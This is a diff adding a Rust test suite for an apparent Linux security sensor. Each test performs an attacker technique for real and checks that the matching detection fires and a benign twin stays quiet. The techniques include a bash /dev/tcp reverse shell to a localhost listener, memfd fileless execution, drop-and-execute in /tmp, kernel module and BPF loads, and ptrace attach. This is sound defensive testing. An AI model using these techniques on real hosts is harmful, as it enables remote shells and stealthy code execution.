@@ -1,0 +1,371 @@
+//! Built-in detections, each performed for real on this machine, next to a benign
+//! look-alike that must stay quiet. The daemon runs in passive mode: every detection's
+//! action is `none` and the behaviour runs to completion.
+
+use std::{
+    ffi::CString,
+    io::{Read, Write},
+    net::TcpListener,
+    os::unix::fs::PermissionsExt,
+    process::{Command, Stdio},
+    time::Duration,
+};
+
+use sensor_tests::{Collector, Daemon, Event, TempDir, pid_of, sensor_bin, shared_daemon};
+
+fn detection_of(e: &Event) -> Option<&sensor::proto::Detection> {
+    e.detection.as_ref()
+}
+
+fn is(e: &Event, id: &str) -> bool {
+    detection_of(e).is_some_and(|d| d.id == id)
+}
+
+/// Waits for `pid`'s exit event, then a little longer, and checks no detection `id` names it.
+async fn assert_quiet(c: &Collector, pid: u32, id: &str) {
+    c.expect("exit of the benign twin", |e| {
+        e.kind == "process_exit" && pid_of(e) == pid
+    })
+    .await;
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let noisy: Vec<_> = c
+        .all()
+        .into_iter()
+        .filter(|e| is(e, id) && pid_of(e) == pid)
+        .collect();
+    assert!(noisy.is_empty(), "benign twin raised {id}: {noisy:?}");
+}
+
+const KINDS: [&str; 2] = ["detection", "process_exit"];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn reverse_shell_over_dev_tcp() {
+    let c = Collector::start(shared_daemon(), &KINDS).await.unwrap();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
+    let mut shell = Command::new("/bin/bash")
+        .args(["-c", &script])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = listener.accept().unwrap();
+    conn.write_all(b"exit\n").unwrap();
+    let mut sink = Vec::new();
+    let _ = conn.read_to_end(&mut sink);
+    assert!(
+        shell.wait().unwrap().success(),
+        "passive mode lets the shell run"
+    );
+
+    let e = c
+        .expect("SNS-0001", |e| {
+            is(e, "SNS-0001")
+                && e.process
+                    .as_ref()
+                    .is_some_and(|p| p.ppid == shell.id() || p.pid == shell.id())
+        })
+        .await;
+    let d = e.detection.clone().unwrap();
+    assert_eq!(
+        d.details.get("remote").map(String::as_str),
+        Some(format!("127.0.0.1:{port}").as_str())
+    );
+    assert_eq!(
+        (d.severity.as_str(), d.action.as_str(), d.source.as_str()),
+        ("high", "none", "builtin")
+    );
+    assert!(!d.evidence.is_empty() && d.evidence.iter().all(|&s| s < e.seq));
+    assert!(d.mitre.iter().any(|m| m == "T1059.004"));
+    let p = e.process.unwrap();
+    assert!(p.exe.ends_with("bash"));
+    assert!(
+        !p.ancestors.is_empty(),
+        "the detection carries the ancestry"
+    );
+
+    // Benign: a shell that only sends output to a socket.
+    let quiet_listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let qport = quiet_listener.local_addr().unwrap().port();
+    let benign = Command::new("/bin/bash")
+        .args(["-c", &format!("echo hello > /dev/tcp/127.0.0.1/{qport}")])
+        .status()
+        .unwrap();
+    assert!(benign.success());
+    let _ = quiet_listener.accept().unwrap();
+    // The benign shell is the direct child here (bash -c runs the builtin itself).
+    let benign_pid = c
+        .wait_for(Duration::from_secs(10), |e| {
+            e.kind == "process_exit"
+                && e.process
+                    .as_ref()
+                    .is_some_and(|p| p.args.iter().any(|a| a.contains(&format!("/{qport}"))))
+        })
+        .await
+        .map(|e| pid_of(&e))
+        .expect("benign shell exit seen");
+    assert_quiet(&c, benign_pid, "SNS-0001").await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn fileless_execution_from_memfd() {
+    let c = Collector::start(shared_daemon(), &KINDS).await.unwrap();
+    let name = CString::new("sensor-fileless").unwrap();
+    // Without CLOEXEC, so the child can exec it through /proc/self/fd.
+    let fd = unsafe { libc::memfd_create(name.as_ptr(), 0) };
+    assert!(fd >= 0);
+    let image = std::fs::read("/bin/true").unwrap();
+    let written = unsafe { libc::write(fd, image.as_ptr().cast(), image.len()) };
+    assert_eq!(written as usize, image.len());
+    let child = Command::new(format!("/proc/self/fd/{fd}")).spawn().unwrap();
+    let pid = child.id();
+    assert!(child.wait_with_output().unwrap().status.success());
+    unsafe { libc::close(fd) };
+    let e = c
+        .expect("SNS-0002", |e| is(e, "SNS-0002") && pid_of(e) == pid)
+        .await;
+    assert_eq!(
+        e.detection
+            .unwrap()
+            .details
+            .get("source")
+            .map(String::as_str),
+        Some("memfd")
+    );
+
+    let benign = Command::new("/bin/true").spawn().unwrap();
+    let bpid = benign.id();
+    benign.wait_with_output().unwrap();
+    assert_quiet(&c, bpid, "SNS-0002").await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn drop_and_execute_in_tmp() {
+    let c = Collector::start(shared_daemon(), &KINDS).await.unwrap();
+    let dropped = std::path::PathBuf::from(format!("/tmp/sensor-drop-{}", std::process::id()));
+    std::fs::create_dir_all(&dropped).unwrap();
+    let exe = dropped.join("payload");
+    std::fs::copy("/bin/true", &exe).unwrap();
+    std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let child = Command::new(&exe).spawn().unwrap();
+    let pid = child.id();
+    child.wait_with_output().unwrap();
+    let e = c
+        .expect("SNS-0003", |e| is(e, "SNS-0003") && pid_of(e) == pid)
+        .await;
+    let d = e.detection.unwrap();
+    assert_eq!(
+        d.details.get("path").map(String::as_str),
+        Some(exe.to_str().unwrap())
+    );
+    assert_eq!(d.evidence.len(), 2, "the write and the exec");
+    std::fs::remove_dir_all(&dropped).unwrap();
+
+    // Benign: the same binary installed in a root-only directory.
+    let installed = std::path::PathBuf::from(format!("/run/sensor-test-{}", std::process::id()));
+    std::fs::create_dir_all(&installed).unwrap();
+    let ok = installed.join("tool");
+    std::fs::copy("/bin/true", &ok).unwrap();
+    let child = Command::new(&ok).spawn().unwrap();
+    let bpid = child.id();
+    child.wait_with_output().unwrap();
+    assert_quiet(&c, bpid, "SNS-0003").await;
+    std::fs::remove_dir_all(&installed).unwrap();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn kernel_module_load_attempt() {
+    let c = Collector::start(shared_daemon(), &KINDS).await.unwrap();
+    let image = [0u8; 64];
+    let r = unsafe {
+        libc::syscall(
+            libc::SYS_init_module,
+            image.as_ptr(),
+            image.len(),
+            c"x=1".as_ptr(),
+        )
+    };
+    assert_eq!(r, -1, "a zeroed image never loads");
+    let e = c
+        .expect("SNS-0004", |e| {
+            is(e, "SNS-0004") && pid_of(e) == std::process::id()
+        })
+        .await;
+    assert_eq!(
+        e.detection
+            .unwrap()
+            .details
+            .get("params")
+            .map(String::as_str),
+        Some("x=1")
+    );
+}
+
+/// Loads a two-instruction socket filter; returns the fd.
+fn load_bpf(name: &[u8]) -> i64 {
+    let insns: [u64; 2] = [0x0000_0000_0000_00b7, 0x0000_0000_0000_0095];
+    let license = c"GPL";
+    let mut attr = [0u8; 128];
+    attr[0..4].copy_from_slice(&1u32.to_ne_bytes());
+    attr[4..8].copy_from_slice(&2u32.to_ne_bytes());
+    attr[8..16].copy_from_slice(&(insns.as_ptr() as u64).to_ne_bytes());
+    attr[16..24].copy_from_slice(&(license.as_ptr() as u64).to_ne_bytes());
+    attr[48..48 + name.len()].copy_from_slice(name);
+    let fd = unsafe { libc::syscall(libc::SYS_bpf, 5, attr.as_ptr(), attr.len()) };
+    assert!(
+        fd >= 0,
+        "BPF_PROG_LOAD: {}",
+        std::io::Error::last_os_error()
+    );
+    unsafe { libc::close(fd as i32) };
+    fd
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn bpf_load_outside_allowlist() {
+    let c = Collector::start(shared_daemon(), &KINDS).await.unwrap();
+    load_bpf(b"det_bpf");
+    let e = c
+        .expect("SNS-0005", |e| {
+            is(e, "SNS-0005")
+                && e.detection
+                    .as_ref()
+                    .unwrap()
+                    .details
+                    .get("prog_name")
+                    .is_some_and(|n| n == "det_bpf")
+        })
+        .await;
+    assert_eq!(pid_of(&e), std::process::id());
+
+    // Benign: the same load by an allowlisted executable (this test binary), on a daemon
+    // configured so.
+    let dir = TempDir::new("allow");
+    let cfg = dir.path().join("detections.json");
+    let me = std::env::current_exe().unwrap();
+    std::fs::write(
+        &cfg,
+        format!(
+            r#"{{"allow": {{"SNS-0005": {{"exe": ["{}"]}}}}}}"#,
+            me.display()
+        ),
+    )
+    .unwrap();
+    let d = Daemon::start(&["--detections-config", cfg.to_str().unwrap()]).unwrap();
+    let allowed = Collector::start(&d.socket, &["detection", "bpf_load"])
+        .await
+        .unwrap();
+    load_bpf(b"det_allowed");
+    allowed
+        .expect("the load is seen", |e| {
+            e.bpf.as_ref().is_some_and(|b| b.prog_name == "det_allowed")
+        })
+        .await;
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    assert!(
+        !allowed.all().iter().any(|e| is(e, "SNS-0005")),
+        "allowlisted load raised SNS-0005"
+    );
+
+    // A malformed configuration is refused with a message naming the problem.
+    std::fs::write(&cfg, r#"{"disabled": ["SNS-4242"]}"#).unwrap();
+    let out = Command::new(sensor_bin())
+        .args([
+            "daemon",
+            "--socket",
+            "/nonexistent/s.sock",
+            "--detections-config",
+            cfg.to_str().unwrap(),
+        ])
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown detection id \"SNS-4242\""));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn ptrace_injection_and_traceme() {
+    let c = Collector::start(shared_daemon(), &KINDS).await.unwrap();
+    let mut victim = Command::new("/bin/sleep").arg("30").spawn().unwrap();
+    let vpid = victim.id() as i32;
+    assert_eq!(unsafe { libc::ptrace(libc::PTRACE_ATTACH, vpid, 0, 0) }, 0);
+    unsafe {
+        let mut st = 0;
+        libc::waitpid(vpid, &mut st, libc::__WALL);
+        libc::ptrace(libc::PTRACE_DETACH, vpid, 0, 0);
+    }
+    victim.kill().unwrap();
+    victim.wait().unwrap();
+    let e = c
+        .expect("SNS-0006", |e| {
+            is(e, "SNS-0006") && pid_of(e) == std::process::id()
+        })
+        .await;
+    assert_eq!(
+        e.detection.unwrap().details.get("target_pid"),
+        Some(&vpid.to_string())
+    );
+
+    let child = unsafe { libc::fork() };
+    if child == 0 {
+        unsafe {
+            libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0);
+            libc::_exit(0);
+        }
+    }
+    unsafe { libc::waitpid(child, std::ptr::null_mut(), 0) };
+    let t = c
+        .expect("SNS-0015", |e| {
+            is(e, "SNS-0015") && pid_of(e) == child as u32
+        })
+        .await;
+    assert_eq!(t.detection.unwrap().severity, "low");
+
+    // Benign: a debugger on the allowlist tracing its own child.
+    if std::path::Path::new("/usr/bin/strace").exists() {
+        let s = Command::new("/usr/bin/strace")
+            .args(["-f", "-o", "/dev/null", "/bin/true"])
+            .spawn()
+            .unwrap();
+        let spid = s.id();
+        assert!(s.wait_with_output().unwrap().status.success());
+        assert_quiet(&c, spid, "SNS-0006").await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn detections_list_cli() {
+    let c = Collector::start(shared_daemon(), &["detection"])
+        .await
+        .unwrap();
+    load_bpf(b"det_cli");
+    let e = c
+        .expect("SNS-0005 for the CLI", |e| {
+            e.detection
+                .as_ref()
+                .is_some_and(|d| d.details.get("prog_name").is_some_and(|n| n == "det_cli"))
+        })
+        .await;
+    let out = Command::new(sensor_bin())
+        .args([
+            "detections",
+            "list",
+            "--output",
+            "json",
+            "--since",
+            &(e.seq - 1).to_string(),
+            "--socket",
+        ])
+        .arg(shared_daemon())
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let text = String::from_utf8_lossy(&out.stdout);
+    let first: serde_json::Value =
+        serde_json::from_str(text.lines().next().expect("one detection at least")).unwrap();
+    assert_eq!(first["seq"].as_u64(), Some(e.seq));
+    assert_eq!(first["detection"]["id"], "SNS-0005");
+    assert_eq!(first["kind"], "detection");
+}
